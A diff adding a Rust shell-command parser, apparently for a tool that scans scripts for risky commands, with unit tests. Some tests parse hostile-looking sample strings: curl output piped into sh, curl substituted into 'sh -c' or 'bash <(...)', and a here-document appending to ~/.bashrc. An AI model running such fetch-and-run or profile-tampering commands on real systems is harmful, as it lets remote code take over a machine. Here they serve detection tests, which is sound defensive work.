@@ -1,0 +1,436 @@
+//! The reader.
+
+use crate::pure::HOLE;
+
+/// Commands, one behind the other.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Script {
+    /// The commands.
+    pub commands: Vec<Command>,
+}
+
+/// One command.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Command {
+    /// Assignments in front of it: name, value.
+    pub assignments: Vec<(String, Word)>,
+    /// Its words; the first is what runs.
+    pub words: Vec<Word>,
+    /// Where its output and input go.
+    pub redirects: Vec<Redirect>,
+    /// How it hangs together with the next one.
+    pub link: Link,
+    /// What stands in it as a here-document.
+    pub here: Option<String>,
+}
+
+/// How two commands hang together.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub enum Link {
+    /// One after the other.
+    #[default]
+    Then,
+    /// The output of the first is the input of the second.
+    Pipe,
+}
+
+/// A redirection.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Redirect {
+    /// It writes.
+    pub out: bool,
+    /// It appends.
+    pub append: bool,
+    /// The file.
+    pub file: Word,
+}
+
+/// A word.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Word {
+    /// Its text; what only the machine knows is a hole.
+    pub text: String,
+    /// Names of variables in it.
+    pub variables: Vec<String>,
+    /// Commands whose output stands in it.
+    pub substitutions: Vec<Script>,
+    /// It is a process substitution: a file that a command writes.
+    pub process: bool,
+}
+
+/// Bounds.
+const DEPTH: u8 = 6;
+const COMMANDS: usize = 2_000;
+
+/// Reads shell text. It never fails: what cannot be read is a word.
+pub fn parse(text: &str) -> Script {
+    let mut reader = Reader { chars: text.chars().collect(), at: 0, depth: 0, pending: Vec::new() };
+    reader.script(None)
+}
+
+struct Reader {
+    chars: Vec<char>,
+    at: usize,
+    depth: u8,
+    /// Here-documents that begin on the next line: delimiter, index of the command.
+    pending: Vec<(String, usize)>,
+}
+
+impl Reader {
+    fn peek(&self) -> Option<char> {
+        self.chars.get(self.at).copied()
+    }
+
+    fn looks_at(&self, text: &str) -> bool {
+        text.chars().enumerate().all(|(offset, c)| self.chars.get(self.at + offset) == Some(&c))
+    }
+
+    fn script(&mut self, until: Option<char>) -> Script {
+        let mut script = Script::default();
+        let mut command = Command::default();
+        while let Some(c) = self.peek() {
+            if Some(c) == until {
+                break;
+            }
+            match c {
+                ' ' | '\t' | '\r' => self.at += 1,
+                '\\' if self.looks_at("\\\n") => self.at += 2,
+                '\n' | ';' => {
+                    self.at += 1;
+                    finish(&mut script, &mut command, Link::Then);
+                    if c == '\n' {
+                        self.here_documents(&mut script);
+                    }
+                }
+                '&' => {
+                    self.at += if self.looks_at("&&") { 2 } else { 1 };
+                    if self.peek() == Some('>') {
+                        self.redirect(&mut command);
+                    } else {
+                        finish(&mut script, &mut command, Link::Then);
+                    }
+                }
+                '|' => {
+                    let or = self.looks_at("||");
+                    self.at += if or || self.looks_at("|&") { 2 } else { 1 };
+                    finish(&mut script, &mut command, if or { Link::Then } else { Link::Pipe });
+                }
+                '(' | ')' | '{' | '}' if is_group(&command, c, self.chars.get(self.at + 1)) => {
+                    self.at += 1;
+                    finish(&mut script, &mut command, Link::Then);
+                }
+                '#' if command.words.is_empty() || self.at > 0 && self.chars[self.at - 1].is_whitespace() => {
+                    while self.peek().is_some_and(|c| c != '\n') {
+                        self.at += 1;
+                    }
+                }
+                '<' | '>' if !self.looks_at("<(") && !self.looks_at(">(") => {
+                    if self.looks_at("<<") && !self.looks_at("<<<") {
+                        self.at += 2;
+                        if self.peek() == Some('-') {
+                            self.at += 1;
+                        }
+                        self.blanks();
+                        let word = self.word(until);
+                        self.pending.push((word.text, script.commands.len()));
+                    } else {
+                        self.redirect(&mut command);
+                    }
+                }
+                '0'..='9' if matches!(self.chars.get(self.at + 1), Some('<' | '>')) => self.at += 1,
+                _ => {
+                    let before = self.at;
+                    let word = self.word(until);
+                    if self.at == before {
+                        self.at += 1;
+                        continue;
+                    }
+                    take_word(&mut command, word);
+                }
+            }
+            if script.commands.len() > COMMANDS {
+                break;
+            }
+        }
+        finish(&mut script, &mut command, Link::Then);
+        script
+    }
+
+    fn blanks(&mut self) {
+        while matches!(self.peek(), Some(' ' | '\t')) {
+            self.at += 1;
+        }
+    }
+
+    fn redirect(&mut self, command: &mut Command) {
+        let out = self.peek() == Some('>');
+        self.at += 1;
+        let mut append = false;
+        while matches!(self.peek(), Some('>' | '<' | '|' | '&')) {
+            append |= self.peek() == Some('>');
+            self.at += 1;
+        }
+        self.blanks();
+        let file = self.word(None);
+        if !file.text.chars().all(|c| c.is_ascii_digit() || c == '-') || file.text.is_empty() {
+            command.redirects.push(Redirect { out, append, file });
+        }
+    }
+
+    fn here_documents(&mut self, script: &mut Script) {
+        for (delimiter, index) in std::mem::take(&mut self.pending) {
+            let mut body = String::new();
+            while self.at < self.chars.len() {
+                let end = self.chars[self.at..].iter().position(|c| *c == '\n').map_or(self.chars.len(), |offset| self.at + offset);
+                let line: String = self.chars[self.at..end].iter().collect();
+                self.at = (end + 1).min(self.chars.len());
+                if line.trim() == delimiter {
+                    break;
+                }
+                body.push_str(&line);
+                body.push('\n');
+            }
+            if let Some(command) = script.commands.get_mut(index) {
+                command.here = Some(body);
+            }
+        }
+    }
+
+    fn word(&mut self, until: Option<char>) -> Word {
+        let mut word = Word::default();
+        while let Some(c) = self.peek() {
+            if Some(c) == until && c != '"' {
+                break;
+            }
+            match c {
+                ' ' | '\t' | '\r' | '\n' | ';' | '&' | '|' => break,
+                '(' | ')' => break,
+                '<' | '>' => {
+                    if self.chars.get(self.at + 1) == Some(&'(') {
+                        self.at += 2;
+                        word.process = true;
+                        self.nested(')', &mut word);
+                        continue;
+                    }
+                    break;
+                }
+                '\'' => {
+                    self.at += 1;
+                    while let Some(c) = self.peek() {
+                        self.at += 1;
+                        if c == '\'' {
+                            break;
+                        }
+                        word.text.push(c);
+                    }
+                }
+                '"' => {
+                    self.at += 1;
+                    self.double_quoted(&mut word);
+                }
+                '\\' => {
+                    self.at += 1;
+                    if let Some(c) = self.peek() {
+                        word.text.push(c);
+                        self.at += 1;
+                    }
+                }
+                '$' => self.dollar(&mut word),
+                '`' => {
+                    self.at += 1;
+                    self.nested('`', &mut word);
+                }
+                c => {
+                    word.text.push(c);
+                    self.at += 1;
+                }
+            }
+        }
+        word
+    }
+
+    fn double_quoted(&mut self, word: &mut Word) {
+        while let Some(c) = self.peek() {
+            match c {
+                '"' => {
+                    self.at += 1;
+                    return;
+                }
+                '\\' => {
+                    self.at += 1;
+                    if let Some(c) = self.peek() {
+                        if !matches!(c, '"' | '\\' | '$' | '`' | '\n') {
+                            word.text.push('\\');
+                        }
+                        word.text.push(c);
+                        self.at += 1;
+                    }
+                }
+                '$' => self.dollar(word),
+                '`' => {
+                    self.at += 1;
+                    self.nested('`', word);
+                }
+                c => {
+                    word.text.push(c);
+                    self.at += 1;
+                }
+            }
+        }
+    }
+
+    fn dollar(&mut self, word: &mut Word) {
+        self.at += 1;
+        match self.peek() {
+            Some('(') => {
+                self.at += 1;
+                if self.peek() == Some('(') {
+                    // Arithmetic.
+                    self.at += 1;
+                    let mut open = 2;
+                    while let Some(c) = self.peek() {
+                        self.at += 1;
+                        open += match c {
+                            '(' => 1,
+                            ')' => -1,
+                            _ => 0,
+                        };
+                        if open == 0 {
+                            break;
+                        }
+                    }
+                    word.text.push_str(HOLE);
+                    return;
+                }
+                self.nested(')', word);
+            }
+            Some('{') => {
+                self.at += 1;
+                let start = self.at;
+                while self.peek().is_some_and(|c| c != '}') {
+                    self.at += 1;
+                }
+                let inner: String = self.chars[start..self.at].iter().collect();
+                self.at += 1;
+                let name: String = inner.trim_start_matches(['#', '!']).chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
+                variable(word, &name);
+            }
+            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
+                let start = self.at;
+                while self.peek().is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
+                    self.at += 1;
+                }
+                let name: String = self.chars[start..self.at].iter().collect();
+                variable(word, &name);
+            }
+            Some('\'') => {}
+            Some('@' | '*' | '#' | '?' | '$' | '!' | '0'..='9') => {
+                self.at += 1;
+                word.text.push_str(HOLE);
+            }
+            _ => word.text.push('$'),
+        }
+    }
+
+    fn nested(&mut self, end: char, word: &mut Word) {
+        if self.depth >= DEPTH {
+            while self.peek().is_some_and(|c| c != end) {
+                self.at += 1;
+            }
+        } else {
+            self.depth += 1;
+            let script = self.script(Some(end));
+            self.depth -= 1;
+            word.substitutions.push(script);
+        }
+        self.at += 1;
+        word.text.push_str(HOLE);
+    }
+}
+
+fn variable(word: &mut Word, name: &str) {
+    match name {
+        "HOME" => word.text.push_str("\u{fdd0}home\u{fdd1}"),
+        "TMPDIR" | "TMP" | "TEMP" => word.text.push_str("\u{fdd0}temp\u{fdd1}"),
+        "PWD" | "INIT_CWD" => word.text.push_str("\u{fdd0}cwd\u{fdd1}"),
+        _ => {
+            // A mark that whoever knows the variable's value can put it in.
+            word.text.push_str(&format!("\u{fdd0}${name}\u{fdd1}"));
+        }
+    }
+    word.variables.push(name.to_owned());
+}
+
+fn is_group(command: &Command, c: char, next: Option<&char>) -> bool {
+    match c {
+        '(' | ')' => true,
+        '{' => command.words.is_empty() && next.is_none_or(|c| c.is_whitespace()),
+        _ => command.words.is_empty(),
+    }
+}
+
+fn take_word(command: &mut Command, word: Word) {
+    if command.words.is_empty() {
+        // Words of the language that a command stands behind.
+        if matches!(word.text.as_str(), "if" | "then" | "else" | "elif" | "fi" | "do" | "done" | "while" | "until" | "!" | "time" | "exec" | "command" | "nohup" | "sudo" | "builtin") && word.substitutions.is_empty() {
+            return;
+        }
+        if let Some((name, value)) = word.text.split_once('=')
+            && !name.is_empty()
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        {
+            let value = Word { text: value.to_owned(), ..word.clone() };
+            command.assignments.push((name.to_owned(), value));
+            return;
+        }
+    }
+    command.words.push(word);
+}
+
+fn finish(script: &mut Script, command: &mut Command, link: Link) {
+    if command.words.is_empty() && command.assignments.is_empty() && command.redirects.is_empty() {
+        *command = Command::default();
+        return;
+    }
+    command.link = link;
+    script.commands.push(std::mem::take(command));
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn words(text: &str) -> Vec<Vec<String>> {
+        parse(text).commands.iter().map(|command| command.words.iter().map(|word| word.text.clone()).collect()).collect()
+    }
+
+    #[test]
+    fn quotes_are_taken_away_and_lists_are_split() {
+        assert_eq!(words("node 'a b.js' && echo \"x y\"; c"), [vec!["node", "a b.js"], vec!["echo", "x y"], vec!["c"]]);
+        assert_eq!(words("cu\"r\"l -s a"), [vec!["curl", "-s", "a"]]);
+    }
+
+    #[test]
+    fn pipes_and_substitutions_are_seen() {
+        let script = parse("curl https://a.invalid/x | sh");
+        assert_eq!(script.commands[0].link, Link::Pipe);
+        let script = parse("sh -c \"$(curl -s https://a.invalid)\"");
+        assert_eq!(script.commands[0].words[2].substitutions[0].commands[0].words[0].text, "curl");
+        let script = parse("bash <(curl -s https://a.invalid)");
+        assert!(script.commands[0].words[1].process);
+    }
+
+    #[test]
+    fn a_here_document_belongs_to_its_command() {
+        let script = parse("cat > ~/.bashrc <<EOF\ncurl x\nEOF\necho done");
+        assert_eq!(script.commands[0].here.as_deref(), Some("curl x\n"));
+        assert_eq!(script.commands[1].words[0].text, "echo");
+    }
+
+    #[test]
+    fn anything_ends() {
+        for text in ["$(", "`", "\"", "'", "<(", "<<", "${", "$((", "a\\", "((((((((((((((((", "<<<"] {
+            parse(text);
+        }
+    }
+}
